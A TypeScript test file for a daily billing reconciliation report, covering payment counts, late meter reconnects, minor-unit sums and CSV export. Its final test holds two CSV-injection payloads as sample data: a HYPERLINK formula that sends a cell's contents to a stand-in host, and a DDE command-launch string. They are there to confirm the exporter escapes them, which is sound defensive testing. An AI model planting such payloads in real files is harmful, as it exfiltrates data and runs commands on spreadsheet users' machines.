import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, reconciliationReport, toCsv, type PaymentReconnectOrder, type ReceivedPayment, type ReconciliationReport } from '../../src/domain/reconciliation.js';

/** The daily reconciliation report per billing client: payments of one local day and their reconnects. */

const at = (iso: string): number => Date.parse(iso);
const H = 3_600_000;
// Report for Tuesday 24 November 2026 (London = UTC in winter), made the next day at noon.
const NOW = at('2026-11-25T12:00:00Z');

const pay = (paymentId: string, receivedAt: string, o: Partial<ReceivedPayment> = {}): ReceivedPayment => ({
  paymentId,
  meterId: `M-${paymentId}`,
  amountMinor: 1000,
  receivedAt: at(receivedAt),
  posted: true,
  ...o,
});
const order = (paymentId: string, state: PaymentReconnectOrder['state'], o: Partial<PaymentReconnectOrder> = {}): PaymentReconnectOrder => {
  const p = payments.find((x) => x.paymentId === paymentId)!;
  return {
    orderId: `o-${paymentId}-${state}`,
    paymentId,
    meterId: p.meterId,
    state,
    createdAt: p.receivedAt + 1000,
    completedAt: null,
    deadline: p.receivedAt + 24 * H,
    stateReason: null,
    ...o,
  };
};

const payments: ReceivedPayment[] = [
  pay('p1', '2026-11-24T09:00:00Z'),
  pay('p1', '2026-11-24T09:00:05Z'), // the same payment reported twice
  pay('p2', '2026-11-24T23:30:00Z', { amountMinor: 255_050, posted: false }),
  pay('p3', '2026-11-23T23:59:59Z'), // the day before
  pay('p4', '2026-11-24T00:00:00Z'),
  pay('p5', '2026-11-24T06:00:00Z'),
  pay('p6', '2026-11-24T07:00:00Z'),
  pay('p7', '2026-11-24T08:00:00Z'),
  pay('p8', '2026-11-24T10:00:00Z'),
  pay('p9', '2026-11-24T11:00:00Z'),
  pay('p10', '2026-11-24T05:00:00Z', { posted: false }),
  pay('p11', '2026-11-24T12:00:00Z'),
];
const orders: PaymentReconnectOrder[] = [
  order('p1', 'done', { completedAt: at('2026-11-24T09:02:00Z') }),
  order('p2', 'queued', { stateReason: 'link busy' }), // deadline 25th 23:30, not yet
  order('p3', 'queued'), // the day before: not in this report
  // p4 caused no reconnect
  order('p5', 'escalated', { escalatedAt: at('2026-11-25T00:00:00Z'), stateReason: 'remote attempts exhausted: no answer, "timeout", twice' }),
  order('p6', 'done_by_field', { completedAt: at('2026-11-25T08:30:00Z'), stateReason: 'crew 7' }),
  order('p7', 'armed', { completedAt: at('2026-11-24T08:10:00Z') }),
  order('p8', 'failed', { stateReason: 'relay stuck' }), // deadline 25th 10:00, passed
  order('p9', 'superseded', { stateReason: 'superseded by o-p9-done' }),
  order('p9', 'done', { completedAt: at('2026-11-25T11:30:00Z') }), // deadline 25th 11:00: 30 min late
  order('p10', 'held', { stateReason: 'waiting for link' }), // deadline 25th 05:00, passed
  order('p11', 'in_flight', {}), // deadline 25th 12:00 = now: not after it
];

const report = reconciliationReport({ day: '2026-11-24', client: 'billing-north', timezone: 'Europe/London', now: NOW, payments, orders });

describe('reconciliationReport', () => {
  it.each([
    ['payments (a duplicate counted once, the day before left out)', 'payments', 10],
    ['amount in whole minor units', 'amountMinor', 9 * 1000 + 255_050],
    ['the same in major units', 'amount', 2640.5],
    ['payments without an amount', 'paymentsWithoutAmount', 0],
    ['unposted payments (they reconnect all the same)', 'unposted', 2],
    ['payments that caused no reconnect', 'paymentsWithoutReconnect', 1],
    ['done, remotely or by a field crew', 'reconnectsDone', 3],
    ['armed', 'reconnectsArmed', 1],
    ['escalated and not done yet', 'reconnectsEscalated', 1],
    ['open', 'reconnectsOpen', 3],
    ['failed', 'reconnectsFailed', 1],
    ['cancelled or superseded', 'reconnectsCancelled', 1],
  ] as const)('%s', (_name, key, value) => {
    expect(report[key]).toBe(value);
  });

  it('lists late reconnects in deadline order with why', () => {
    expect(report.late.map((l) => [l.orderId, l.completedAt === null ? null : new Date(l.completedAt).toISOString()])).toEqual([
      ['o-p10-held', null],
      ['o-p5-escalated', null],
      ['o-p6-done_by_field', '2026-11-25T08:30:00.000Z'],
      ['o-p8-failed', null],
      ['o-p9-done', '2026-11-25T11:30:00.000Z'],
    ]);
    const why = Object.fromEntries(report.late.map((l) => [l.orderId, l.why]));
    expect(why['o-p10-held']).toBe('still held 7 h 0 min after the deadline: waiting for link');
    expect(why['o-p5-escalated']).toBe('escalated to a field crew at 2026-11-25T00:00:00.000Z, not done 6 h 0 min after the deadline: remote attempts exhausted: no answer, "timeout", twice');
    expect(why['o-p6-done_by_field']).toBe('done by a field crew 90 min after the deadline: crew 7');
    expect(why['o-p8-failed']).toBe('failed, the customer is not back on supply: relay stuck');
    expect(why['o-p9-done']).toBe('done remotely 30 min after the deadline');
  });

  it.each([
    { name: 'done exactly at the deadline is on time', o: { state: 'done', completedAt: at('2026-11-25T09:00:00Z') }, late: false },
    { name: 'done a second after it is late', o: { state: 'done', completedAt: at('2026-11-25T09:00:01Z') }, late: true },
    { name: 'armed after it is late', o: { state: 'armed', completedAt: at('2026-11-25T10:00:00Z') }, late: true },
    { name: 'open at the deadline is not late yet', o: { state: 'queued' }, now: at('2026-11-25T09:00:00Z'), late: false },
    { name: 'open after it is late', o: { state: 'queued' }, now: at('2026-11-25T09:00:01Z'), late: true },
    { name: 'failed before the deadline is not late yet', o: { state: 'failed' }, now: at('2026-11-25T08:00:00Z'), late: false },
    { name: 'cancelled is not judged', o: { state: 'cancelled' }, late: false },
    { name: 'no deadline is not judged', o: { state: 'queued', deadline: null }, late: false },
    { name: 'done with no completion time, after the deadline, is reported', o: { state: 'done', completedAt: null }, late: true },
  ] as { name: string; o: Partial<PaymentReconnectOrder>; now?: number; late: boolean }[])('$name', ({ o, now, late }) => {
    const r = reconciliationReport({ day: '2026-11-24', client: 'c', timezone: 'Europe/London', now: now ?? NOW, payments: [payments[0]!], orders: [order('p1', 'done', o)] });
    expect(r.late.length).toBe(late ? 1 : 0);
  });

  it('the day is the local day: in summer, 23:30 UTC is already the next day in London', () => {
    const summer = [pay('s1', '2026-07-14T22:59:59Z'), pay('s2', '2026-07-14T23:00:00Z')];
    const r = (day: string) => reconciliationReport({ day, client: 'c', timezone: 'Europe/London', now: NOW, payments: summer, orders: [] });
    expect(r('2026-07-14').payments).toBe(1);
    expect(r('2026-07-15').payments).toBe(1);
  });

  it('an empty day', () => {
    const r = reconciliationReport({ day: '2026-11-22', client: 'c', timezone: 'Europe/London', now: NOW, payments, orders });
    expect(r).toMatchObject({ payments: 0, amount: 0, amountMinor: 0, reconnectsDone: 0, late: [] });
  });

  it('sums exactly in whole minor units: 10,000 payments of 0.10 are exactly 1,000.00, in JSON and CSV', () => {
    const many = Array.from({ length: 10_000 }, (_, i) => pay(`m${i}`, '2026-11-24T12:00:00Z', { amountMinor: 10 }));
    const r = reconciliationReport({ day: '2026-11-24', client: 'c', timezone: 'Europe/London', now: NOW, payments: many, orders: [] });
    expect(r).toMatchObject({ payments: 10_000, amountMinor: 100_000, amount: 1000 });
    expect(parse(toCsv(r), { columns: true })[0]).toMatchObject({ amount: '1000.00', amount_minor: '100000' });
    // Summing the major-unit floats instead drifts: the reason for whole minor units.
    expect(many.reduce((s) => s + 0.1, 0)).not.toBe(1000);
  });

  it('a payment recorded before amounts were bounded, with no amount the gateway can hold, is counted but not summed', () => {
    const r = reconciliationReport({ day: '2026-11-24', client: 'c', timezone: 'Europe/London', now: NOW, payments: [pay('ok', '2026-11-24T12:00:00Z', { amountMinor: 1250 }), pay('legacy', '2026-11-24T13:00:00Z', { amountMinor: null })], orders: [] });
    expect(r).toMatchObject({ payments: 2, amountMinor: 1250, amount: 12.5, paymentsWithoutAmount: 1 });
    expect(JSON.stringify(r)).not.toMatch(/null|NaN|Infinity/);
  });
});

describe('toCsv', () => {
  it('RFC 4180: CRLF line ends, a header, the same number of fields on every line, and it reads back', () => {
    const csv = toCsv(report);
    expect(csv.endsWith('\r\n')).toBe(true);
    const rows = parse(csv, { relax_column_count: false }) as string[][];
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    expect(rows.every((r) => r.length === CSV_COLUMNS.length)).toBe(true);
    const records = parse(csv, { columns: true }) as Record<string, string>[];
    expect(records[0]).toMatchObject({ record: 'summary', day: '2026-11-24', client: 'billing-north', payments: '10', amount: '2640.50', amount_minor: '264050', payments_without_amount: '0', reconnects_done: '3', reconnects_open: '3', order_id: '' });
    const late = records.filter((r) => r.record === 'late');
    expect(late.map((r) => r.order_id)).toEqual(report.late.map((l) => l.orderId));
    // The reason with a comma and quotes survives the round trip.
    expect(late.find((r) => r.order_id === 'o-p5-escalated')!.why).toContain('no answer, "timeout", twice');
    expect(late.find((r) => r.order_id === 'o-p9-done')).toMatchObject({ deadline: '2026-11-25T11:00:00.000Z', completed_at: '2026-11-25T11:30:00.000Z' });
  });

  it('a client name with a comma and a line break is quoted', () => {
    const r: ReconciliationReport = { ...report, client: 'North, "East"\nagents', late: [] };
    const rows = parse(toCsv(r)) as string[][];
    expect(rows).toHaveLength(2);
    expect(rows[1]![2]).toBe('North, "East"\nagents');
  });

  it('a client name or a reason a spreadsheet would run as a formula is written as text (OWASP CSV injection)', () => {
    const client = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    const r: ReconciliationReport = { ...report, client, late: [{ ...report.late[0]!, why: "@SUM(1+1)*cmd|' /C calc'!A0" }] };
    const records = parse(toCsv(r), { columns: true }) as Record<string, string>[];
    expect(records.map((x) => x.client)).toEqual([`'${client}`, `'${client}`]);
    expect(records[1]!.why).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    // Numbers stay numbers.
    expect(records[0]).toMatchObject({ amount: '2640.50', amount_minor: '264050' });
  });
});
